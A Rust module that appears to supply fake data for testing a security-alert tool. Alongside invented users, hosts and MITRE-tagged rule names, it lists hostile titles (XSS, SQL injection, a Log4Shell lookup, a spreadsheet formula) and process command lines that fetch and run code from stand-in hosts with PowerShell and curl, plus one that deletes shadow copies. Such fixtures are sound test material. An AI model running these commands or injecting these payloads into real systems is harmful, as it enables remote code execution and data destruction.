//! The words of generated worlds: people, machines, rules, titles, and text that an attacker would write.
//!
//! All names are made up; addresses are from the documentation ranges and the private ones.

use std::borrow::Cow;

use crate::rng::Dice;

/// A detection rule: name, alert type, MITRE tactic, MITRE technique, legacy source.
#[derive(Debug, Clone, Copy, Default)]
pub(crate) struct Rule {
    pub(crate) name: &'static str,
    pub(crate) kind: &'static str,
    pub(crate) tactic: &'static str,
    pub(crate) technique: &'static str,
}

const fn rule(name: &'static str, kind: &'static str, tactic: &'static str, technique: &'static str) -> Rule {
    Rule { name, kind, tactic, technique }
}

/// Rules, over the tactics a connector maps.
pub(crate) const RULES: [Rule; 14] = [
    rule(
        "Attacker Technique - Brute Force Against Domain Account",
        "Brute Force - Domain Account",
        "Credential Access",
        "T1110",
    ),
    rule("Suspicious Process - PowerShell Downloads Content", "Attacker Tool", "Execution", "T1059.001"),
    rule("Attacker Technique - LSASS Memory Read", "Attacker Technique", "Credential Access", "T1003.001"),
    rule("Lateral Movement - PsExec Service Created", "Lateral Movement", "Lateral Movement", "T1021.002"),
    rule("Suspicious DNS Request - Known C2 Domain", "Threat Intelligence", "Command and Control", "T1071.004"),
    rule("Malicious Hash On Asset", "Malicious Hash On Asset", "Execution", "T1204.002"),
    rule("Phishing - Link Followed To Lookalike Domain", "Spear Phishing URL Detected", "Initial Access", "T1566.002"),
    rule("Suspicious Ingress From Anonymous Proxy", "Ingress From Tor", "Initial Access", "T1078"),
    rule("Persistence - Run Key Added By Script", "Attacker Technique", "Persistence", "T1547.001"),
    rule("Exfiltration - Large Upload To File Sharing", "Data Exfiltration", "Exfiltration", "T1567.002"),
    rule("Defense Evasion - Event Log Cleared", "Log Deletion", "Defense Evasion", "T1070.001"),
    rule("Impact - Shadow Copies Deleted", "Ransomware", "Impact", "T1490"),
    rule("Discovery - Port Scan From Endpoint", "Network Scan", "Discovery", "T1046"),
    rule("Privilege Escalation - Token Stolen", "Attacker Technique", "Privilege Escalation", "T1134"),
];

/// Legacy user-behaviour alert types with their description.
pub(crate) const BEHAVIOURS: [(&str, &str); 6] = [
    ("Account Leak", "Account credentials were leaked"),
    ("Multiple Country Authentications", "A user logged in from too many countries in a short time"),
    ("Ingress From Disabled Account", "A disabled account reached a cloud service"),
    ("Honeypot Access", "Someone connected to a honeypot"),
    ("First Ingress Authentication From Country", "A user logged in from a country for the first time"),
    ("Impersonation - Domain Account", "A user authenticated as somebody else"),
];

/// Titles of investigations that are not named after a rule.
pub(crate) const TITLES: [&str; 6] = [
    "Suspicious sign-in by finance user",
    "Review of quarantined attachment",
    "Joe enabled account Joebob",
    "Vérification d'accès – équipe réseau",
    "不審なログイン",
    "Follow-up: lost laptop",
];

/// Titles that an attacker chose.
pub(crate) const HOSTILE: [&str; 10] = [
    "",
    "line one\nline two\r\n[ERROR] forged: log line",
    "\"}],\"metadata\":{\"total_data\":0}} <script>alert(1)</script>",
    "\u{202E}gnp.exe\u{202C} invoice",
    "null\u{0000}byte and \u{1b}[31mred\u{1b}[0m \u{0007}",
    "'; DROP TABLE artifacts; -- ${jndi:ldap://198.51.100.7/a}",
    "\u{FEFF}\u{200B}\u{2028}\u{2029}invisible",
    "{{7*7}} %s%n %2e%2e/..\\..\\",
    "👩‍👩‍👧‍👦𝕳𝖊𝖑𝖑𝖔 \u{FFFF} Z̸͎̈a̵͖͝l̷̯͛g̶̲̓ö̸́ͅ",
    "=cmd|' /C calc'!A0",
];

/// User names with their display names.
pub(crate) const USERS: [(&str, &str); 8] = [
    ("jdoe", "Jane Doe"),
    ("asmith", "Alan Smith"),
    ("mgarcia", "María García"),
    ("svc_backup", "Backup Service"),
    ("kowalski", "Piotr Kowalski"),
    ("tanaka", "田中 花子"),
    ("o.brien", "Shaun O'Brien"),
    ("administrator", "Administrator"),
];

/// Analysts to whom investigations are assigned, one of them without an address.
pub(crate) const ANALYSTS: [(&str, &str); 4] = [
    ("Ellen Example", "ellen@example.com"),
    ("Ravi Analyst", "ravi.analyst@example.com"),
    ("Rapid7 MDR", ""),
    ("Łukasz Nowak", "lukasz@example.com"),
];

/// Machines.
pub(crate) const HOSTS: [&str; 8] = [
    "ws-0117.corp.example.com",
    "ws-0342.corp.example.com",
    "dc01.corp.example.com",
    "FILESRV02",
    "laptop-jdoe",
    "web-3.dmz.example.net",
    "build-agent-09",
    "mail01.corp.example.com",
];

/// Addresses, both families.
pub(crate) const ADDRESSES: [&str; 8] = [
    "203.0.113.77",
    "198.51.100.23",
    "192.0.2.199",
    "10.20.30.40",
    "172.16.8.9",
    "2001:db8:85a3::8a2e:370:7334",
    "fe80::1ff:fe23:4567:890a",
    "192.168.77.5",
];

/// Domains.
pub(crate) const DOMAINS: [&str; 5] =
    ["login-example.test", "cdn.bad-updates.test", "files.share.example", "c2.evil.test", "xn--mnchen-3ya.example"];

/// Processes: image path and command line.
pub(crate) const PROCESSES: [(&str, &str); 5] = [
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r#"powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://c2.evil.test/a')""#,
    ),
    (r"C:\Windows\System32\cmd.exe", r#"cmd.exe /c "vssadmin delete shadows /all /quiet""#),
    (r"C:\Users\jdoe\AppData\Local\Temp\invoice.pdf.exe", "invoice.pdf.exe --silent"),
    ("/usr/bin/curl", "curl -s http://198.51.100.23/x.sh | sh"),
    ("/opt/日本/ツール", "ツール --password=hunter2"),
];

/// Tags.
pub(crate) const TAGS: [&str; 5] = ["phishing", "vip", "p1", "red team", "Überprüfung"];

/// A title: usually ordinary, sometimes hostile, rarely very long.
pub(crate) fn title(dice: &mut Dice) -> Cow<'static, str> {
    match dice.below(100) {
        0..=4 => Cow::Borrowed(dice.pick(&HOSTILE)),
        5 => Cow::Owned("A".repeat(2_000) + "…" + &"Ω".repeat(1_000)),
        6..=59 => Cow::Borrowed(dice.pick(&RULES).name),
        _ => Cow::Borrowed(dice.pick(&TITLES)),
    }
}
